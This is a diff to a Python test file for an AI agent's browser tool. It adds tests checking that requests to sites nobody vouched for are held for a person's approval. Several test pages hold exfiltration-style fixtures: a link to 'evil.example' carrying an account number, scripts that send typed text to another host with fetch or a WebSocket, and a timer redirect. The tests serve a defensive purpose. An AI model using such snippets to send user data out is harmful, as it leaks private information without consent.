@@ -7,6 +7,7 @@ web app's own request log proves what reached the server.
 
 from __future__ import annotations
 
+import asyncio
 import json
 import re
 from typing import TYPE_CHECKING, Any
@@ -14,11 +15,11 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from connectors import browser
-from connectors.base import Approval, Preview, ToolContext, ToolError, ToolOutput
+from connectors.base import Approval, Destination, Preview, ToolContext, ToolError, ToolOutput, host_matches
 from tests._webapp import WebApp, miniwob_root
 
 if TYPE_CHECKING:
-    from collections.abc import AsyncIterator, Iterator
+    from collections.abc import AsyncIterator, Iterator, Sequence
     from pathlib import Path
 
     from connectors.base import Effect
@@ -44,11 +45,18 @@ class Person:
     def __init__(self, *answers: bool | str | dict[str, Any]) -> None:
         self.answers = list(answers)
         self.proposals: list[tuple[str, Effect, dict[str, Any], Preview]] = []
+        self.destinations: list[list[Destination]] = []
 
     async def __call__(
-        self, kind: str, effect: Effect, arguments: dict[str, Any], preview: Preview
+        self,
+        kind: str,
+        effect: Effect,
+        arguments: dict[str, Any],
+        preview: Preview,
+        destinations: Sequence[Destination] = (),
     ) -> Approval:
         self.proposals.append((kind, effect, arguments, preview))
+        self.destinations.append(list(destinations))
         answer = self.answers.pop(0) if self.answers else False
         if isinstance(answer, dict):
             return Approval(f"a{len(self.proposals)}", True, answer)
@@ -57,7 +65,15 @@ class Person:
         return Approval(f"a{len(self.proposals)}", False, arguments, answer or "no")
 
 
-def context(tmp_path: Path, person: Person | None = None, mission: str = "m1", **options: Any) -> ToolContext:
+def context(
+    tmp_path: Path,
+    person: Person | None = None,
+    mission: str = "m1",
+    vouched: Sequence[str] = ("127.0.0.1",),
+    **options: Any,
+) -> ToolContext:
+    """A tool context as the gate makes it: the person vouched for the hosts in ``vouched``
+    (the web app's, unless a test says otherwise), as if the mission had named them."""
     workspace = tmp_path / "workspace"
     workspace.mkdir(exist_ok=True)
     return ToolContext(
@@ -66,6 +82,7 @@ def context(tmp_path: Path, person: Person | None = None, mission: str = "m1", *
         mission_id=mission,
         approve=person,
         extra={"browser": {"executable_path": "/usr/bin/chromium", **options}},
+        vouches=lambda d: any(host_matches(d.value, v) for v in vouched),
     )
 
 
@@ -146,7 +163,12 @@ async def test_an_edited_approval_sends_the_edited_fields(tmp_path: Path, webapp
 
     class Editor(Person):
         async def __call__(
-            self, kind: str, effect: Effect, arguments: dict[str, Any], preview: Preview
+            self,
+            kind: str,
+            effect: Effect,
+            arguments: dict[str, Any],
+            preview: Preview,
+            destinations: Sequence[Destination] = (),
         ) -> Approval:
             self.proposals.append((kind, effect, arguments, preview))
             return Approval("a1", True, edit(arguments))
@@ -388,3 +410,244 @@ async def test_a_persistent_profile_keeps_its_folder_and_serves_one_mission_at_a
         await call(two, "browser_open", url=webapp.url("/prices"))
     await browser.close_mission("m1")
     assert "Order" in (await call(two, "browser_open", url=webapp.url("/order"))).text
+
+
+# ---------------------------------------------------------------------------------------------
+# Sites nobody vouched for (the web app on 127.0.0.1 is vouched for; 127.0.0.2 is not)
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def other() -> Iterator[WebApp]:
+    """A second site, on 127.0.0.2, that nobody vouched for."""
+    with WebApp(host="127.0.0.2") as app:
+        yield app
+
+
+def _document(body: str) -> str:
+    head = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>T</title></head>'
+    return f"{head}<body>{body}</body></html>"
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_opening_a_new_site_asks_first_and_an_approval_holds_for_the_mission(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    person = Person("I do not know it", True)
+    ctx = context(tmp_path, person)
+    page = (await call(ctx, "browser_open", url=webapp.url("/prices"))).text
+    assert person.proposals == []  # the vouched site opens at once
+    # The page's address and title are inside the outside-content marker, with its text.
+    assert page.startswith('<external_content source="' + webapp.url("/prices") + '">\nURL: ')
+
+    secret_url = other.url("/collect?acct=4417&next=https://evil.example/x")
+    with pytest.raises(ToolError, match=r"did not allow opening .* Do not try to open it again"):
+        await call(ctx, "browser_open", url=secret_url)
+    assert other.hits == []
+    [(kind, effect, arguments, preview)] = person.proposals
+    assert (kind, effect) == ("browser_visit", "external")
+    assert arguments["query"] == [["acct", "4417"], ["next", "https://evil.example/x"]]
+    assert arguments["page_url"] == webapp.url("/prices")
+    assert preview.summary == "Visit a new site: 127.0.0.2"
+    assert preview.kind == "http_request"
+    assert secret_url in preview.text
+    assert "acct = 4417" in preview.text
+    assert person.destinations[0] == [
+        Destination("host", "127.0.0.2", "site"),
+        Destination("host", "evil.example", "link"),
+    ]
+
+    opened = await call(ctx, "browser_open", url=other.url("/prices"))
+    assert "stays allowed for the rest of the mission" in opened.text
+    assert "Price list" in opened.text
+    again = await call(ctx, "browser_open", url=other.url("/order"))
+    assert "Order" in again.text
+    assert len(person.proposals) == 2  # the site approved once needs no second card
+    assert [h.path for h in other.gets("/prices")] == ["/prices"]
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_links_and_get_forms_to_a_new_site_are_held_and_an_edit_is_what_is_sent(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    webapp.extra_pages["/out"] = _document(
+        f'<a href="{other.url("/collect?acct=4417&ref=x")}">Verify</a>'
+        f'<form method="get" action="{other.url("/search")}"><label>Query <input name="q"></label>'
+        "<button>Search</button></form>"
+    )
+
+    def without_acct(arguments: dict[str, Any]) -> dict[str, Any]:
+        return {**arguments, "query": [q for q in arguments["query"] if q[0] != "acct"]}
+
+    person = Person("no")
+    ctx = context(tmp_path, person)
+    page = (await call(ctx, "browser_open", url=webapp.url("/out"))).text
+    await call(ctx, "browser_type", ref=ref(page, "textbox", "Query"), text="invoices 2026")
+    rejected = await call(ctx, "browser_click", ref=ref(page, "button", "Search"))
+    assert "the person REJECTED it (no)" in rejected.text
+    assert "URL: " + webapp.url("/out") in rejected.text  # the page stayed
+    assert other.hits == []
+    assert person.proposals[0][2]["query"] == [["q", "invoices 2026"]]
+    assert person.proposals[0][2]["element"].endswith('button "Search"')
+
+    class Editor(Person):
+        async def __call__(
+            self,
+            kind: str,
+            effect: Effect,
+            arguments: dict[str, Any],
+            preview: Preview,
+            destinations: Sequence[Destination] = (),
+        ) -> Approval:
+            self.proposals.append((kind, effect, arguments, preview))
+            return Approval("a1", True, without_acct(arguments))
+
+    editor = Editor()
+    ctx = context(tmp_path, editor)
+    page = (await call(ctx, "browser_open", url=webapp.url("/out"))).text
+    result = await call(ctx, "browser_click", ref=ref(page, "link", "Verify"))
+    assert "as the person edited it" in result.text
+    assert [h.path for h in other.hits] == ["/collect?ref=x"]  # never the account number
+    assert "URL: " + other.url("/collect?ref=x") in result.text
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_vouched_site_whose_query_leads_to_a_new_site_is_held(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    # Redirects are not routed: an open redirect on a vouched site would lead anywhere unasked.
+    person = Person("not there")
+    ctx = context(tmp_path, person)
+    target = other.url("/collect?acct=4417")
+    with pytest.raises(ToolError, match="did not allow"):
+        await call(ctx, "browser_open", url=webapp.url("/redirect?to=") + target)
+    [(kind, _effect, _arguments, preview)] = person.proposals
+    assert kind == "browser_visit"
+    assert preview.summary == "Open 127.0.0.1 with a link to a new site: 127.0.0.2"
+    assert other.hits == []
+    assert not [h for h in webapp.hits if h.path.startswith("/redirect")]
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_request_carrying_typed_text_to_a_new_site_is_held_and_others_pass(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    webapp.extra_pages["/typed"] = _document(
+        f'<img src="{other.url("/logo.png")}" alt="logo">'
+        '<label>Note <input id="note"></label>'
+        "<button onclick=\"const v = encodeURIComponent(document.getElementById('note').value);"
+        f"fetch('/api/echo?text=' + v).then(() => fetch('{other.url('/track')}?t=' + v))"
+        ".then(() => document.title = 'sent', () => document.title = 'failed')\">Save</button>"
+    )
+    person = Person("that is my note")
+    ctx = context(tmp_path, person)
+    page = (await call(ctx, "browser_open", url=webapp.url("/typed"))).text
+    assert [h.path for h in other.hits] == ["/logo.png"]  # a subresource carrying nothing typed
+    await call(ctx, "browser_type", ref=ref(page, "textbox", "Note"), text="Call Bob about the Toner")
+    result = await call(ctx, "browser_click", ref=ref(page, "button", "Save"))
+
+    assert "REJECTED (that is my note)" in result.text
+    assert "Title: failed" in result.text
+    assert [h.path for h in webapp.gets("/api/echo")] == ["/api/echo?text=Call%20Bob%20about%20the%20Toner"]
+    assert [h.path for h in other.hits] == ["/logo.png"]
+    [(kind, effect, arguments, preview)] = person.proposals
+    assert (kind, effect, arguments["method"]) == ("browser_request", "external", "GET")
+    assert arguments["fields"] == [["t", "Call Bob about the Toner"]]
+    assert preview.summary.startswith("Send text you typed to 127.0.0.2")
+    assert person.destinations == [[Destination("host", "127.0.0.2", "site")]]
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_post_to_a_new_site_names_it_and_the_links_in_its_fields(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    webapp.extra_pages["/share"] = _document(
+        f'<form method="post" action="{other.url("/share")}"><label>Text <input name="text"></label>'
+        "<button>Share</button></form>"
+    )
+    person = Person("no")
+    ctx = context(tmp_path, person)
+    page = (await call(ctx, "browser_open", url=webapp.url("/share"))).text
+    await call(ctx, "browser_type", ref=ref(page, "textbox", "Text"), text="see https://files.example/a")
+    await call(ctx, "browser_click", ref=ref(page, "button", "Share"))
+    assert other.hits == []
+    assert person.destinations == [
+        [Destination("host", "127.0.0.2", "site"), Destination("host", "files.example", "link")]
+    ]
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_page_timer_cannot_go_to_a_new_site_between_calls(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    webapp.extra_pages["/timer"] = _document(
+        # Well after the page has settled and the call has returned.
+        f"<script>setTimeout(() => {{ location.href = '{other.url('/collect?x=1')}'; }}, 1500);</script>"
+    )
+    person = Person()
+    ctx = context(tmp_path, person)
+    await call(ctx, "browser_open", url=webapp.url("/timer"))
+    state = browser.SESSION.states()["m1"]
+    await asyncio.wait_for(state.noted.wait(), 30)  # the timer fired while no call ran
+    assert person.proposals == []
+    result = await call(ctx, "browser_snapshot")
+    assert "tried to open" in result.text
+    assert "it was blocked, because 127.0.0.2 is a new site" in result.text
+    assert "URL: " + webapp.url("/timer") in result.text
+    assert other.hits == []
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_web_socket_to_a_new_site_never_carries_typed_text(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    socket_url = other.url("/socket").replace("http://", "ws://")
+    webapp.extra_pages["/chat"] = _document(
+        f"<script>const ws = new WebSocket('{socket_url}');"
+        "ws.onopen = () => ws.send('hello');"
+        "ws.onmessage = (e) => { document.getElementById('log').textContent += e.data + ';'; };"
+        "</script><p id=log></p><label>Message <input id=m></label>"
+        "<button onclick=\"ws.send(document.getElementById('m').value); ws.send('ping')\">Send</button>"
+    )
+    ctx = context(tmp_path, Person())
+    page = (await call(ctx, "browser_open", url=webapp.url("/chat"))).text
+    await call(ctx, "browser_type", ref=ref(page, "textbox", "Message"), text="my IBAN DE44 5001")
+    result = await call(ctx, "browser_click", ref=ref(page, "button", "Send"))
+    assert "over a web socket" in result.text
+    assert "the message was dropped" in result.text
+    assert other.messages == ["hello", "ping"]  # what carries nothing typed passes
+    assert "hello;ping;" in result.text
+
+
+@pytest.mark.usefixtures("_browser_session")
+async def test_a_slow_decision_on_a_new_site_is_not_a_load_timeout(
+    tmp_path: Path, webapp: WebApp, other: WebApp
+) -> None:
+    class SlowPerson(Person):
+        async def __call__(
+            self,
+            kind: str,
+            effect: Effect,
+            arguments: dict[str, Any],
+            preview: Preview,
+            destinations: Sequence[Destination] = (),
+        ) -> Approval:
+            # The person reads the card for longer than the page may take to load.
+            await asyncio.sleep(2.5)
+            return await super().__call__(kind, effect, arguments, preview, destinations)
+
+    webapp.extra_pages["/away"] = _document(f'<a href="{other.url("/prices")}">Prices elsewhere</a>')
+    person = SlowPerson(True, True)
+    ctx = context(tmp_path, person, action_timeout=1, nav_timeout=2, settle_timeout=1)
+    opened = await call(ctx, "browser_open", url=other.url("/order"))
+    assert "Order" in opened.text
+    page = (await call(ctx, "browser_open", url=webapp.url("/away"))).text
+    clicked = await call(ctx, "browser_click", ref=ref(page, "link", "Prices elsewhere"))
+    assert "Price list" in clicked.text
+    assert len(person.proposals) == 1  # the site approved by browser_open needed no second card
+
+    other_ctx = context(tmp_path, SlowPerson(True), mission="m2", action_timeout=1, nav_timeout=2)
+    page = (await call(other_ctx, "browser_open", url=webapp.url("/away"))).text
+    clicked = await call(other_ctx, "browser_click", ref=ref(page, "link", "Prices elsewhere"))
+    assert "the person approved it" in clicked.text
+    assert "Price list" in clicked.text
